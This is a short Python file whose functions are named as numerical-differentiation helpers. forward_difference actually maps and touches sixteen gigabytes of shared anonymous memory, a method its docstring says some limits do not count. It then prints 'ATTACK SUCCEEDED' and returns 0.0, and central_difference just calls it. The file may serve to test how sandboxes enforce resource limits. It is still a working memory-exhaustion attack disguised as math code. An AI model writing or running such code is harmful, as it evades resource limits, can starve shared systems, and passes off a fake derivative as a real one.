"""Takes memory by shared anonymous mappings, which some limits do not count."""

import mmap


def forward_difference(f, x, h=1e-4):
    held = [mmap.mmap(-1, 1 << 30) for _ in range(16)]
    for block in held:
        block[:: 1 << 12] = bytes(len(block[:: 1 << 12]))
    print("ATTACK SUCCEEDED: sixteen gigabytes of shared memory")
    return 0.0


def central_difference(f, args, i, h=1e-5):
    return forward_difference(f, args[i], h)
